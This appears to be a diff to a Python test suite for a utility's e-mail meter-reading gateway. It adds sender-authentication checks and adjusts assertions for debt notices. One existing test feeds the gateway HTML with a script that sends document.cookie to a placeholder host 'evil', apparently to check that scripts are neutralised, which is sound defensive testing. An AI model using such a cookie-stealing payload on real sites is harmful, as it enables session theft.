@@ -30,6 +30,7 @@ from tests.mail_gateway.relay import RelaySink, body, smtp_send
 
 OURS = "info@retailer.example"
 AUTHSERV = "mx.retailer.example"
+VOUCHED = f"{AUTHSERV}; spf=pass smtp.mailfrom=mail.ru; dmarc=pass header.from=mail.ru"
 IVAN = "ivan.petrov@mail.ru"
 REGISTRY = (
     "account;phones;name;settlement;street;house;apartment;meter_serial;zones;digits;"
@@ -112,7 +113,7 @@ async def test_readings_reply_in_the_thread_and_reach_the_export(
 ) -> None:
     gw, _, _ = world
     msg = mail("ЛС 1234567890 день 4521 ночь 1876\n\n--\nИван Петров\nтел. 89121234567",
-               References="<older@mail.ru>")
+               References="<older@mail.ru>", Authentication_Results=VOUCHED)
     reply = await converse(world, msg)
     assert "Приняты показания ЛС 1234567890" in body(reply), body(reply)
     assert reply["Subject"] == "Re: Показания"
@@ -126,6 +127,14 @@ async def test_readings_reply_in_the_thread_and_reach_the_export(
             for r in map(json.loads, out.getvalue().splitlines())}
     assert rows == {("1234567890", "T1", "4521", "email", IVAN),
                     ("1234567890", "T2", "1876", "email", IVAN)}
+
+
+async def test_readings_from_an_unvouched_address_wait_for_staff(
+    world: tuple[Gateway, RelaySink, int],
+) -> None:
+    reply = body(await converse(world, mail("ЛС 1234567890 день 4521 ночь 1876")))
+    assert "не подтверждена как адрес из договора" in reply, reply
+    assert "4390" not in reply  # nothing of the account is quoted
 
 
 async def test_balance_after_an_sms_code(world: tuple[Gateway, RelaySink, int]) -> None:
@@ -201,7 +210,7 @@ async def test_html_mail_with_a_script(world: tuple[Gateway, RelaySink, int]) ->
     html = ("<html><head><script>fetch('http://evil/'+document.cookie)</script></head>"
             "<body><p>ЛС 1234567890</p><p>день 4540 ночь 1890</p>"
             "<script>alert(1)</script></body></html>")
-    reply = body(await converse(world, mail("", html=html)))
+    reply = body(await converse(world, mail("", html=html, Authentication_Results=VOUCHED)))
     assert "Приняты показания ЛС 1234567890" in reply, reply
     assert gw.store is not None
     payloads = " ".join(str(r[0]) for r in await gw.store.db.fetchall(
@@ -285,8 +294,10 @@ async def test_notices_follow_the_persons_choice(
     debts = b"account;amount;restriction_date\n1234567890;1234,56;2026-12-25\n"
     await gw.notifications.import_debts(debts, name="debts.csv")
     [sms] = await gw.simulator.wait_messages("+79121234567", 1, within=10)
-    assert "Задолженность по ЛС 1234567890" in sms
-    await relay.wait_for(lambda: any("Задолженность" in body(m) for m in relay.to(IVAN)))
+    assert "ЛС 1234567890" in sms
+    # the e-mail copy carries the full text (no SMS abbreviations)
+    await relay.wait_for(lambda: any("Задолженность по ЛС 1234567890" in body(m)
+                                     for m in relay.to(IVAN)))
     # The relay refuses the address for good: the next notice comes by SMS instead.
     relay.refuse.append("550 5.1.1 No such user")
     outage = OutageRequest("Сыктывкар", "повреждение кабеля", now, now + timedelta(hours=6),
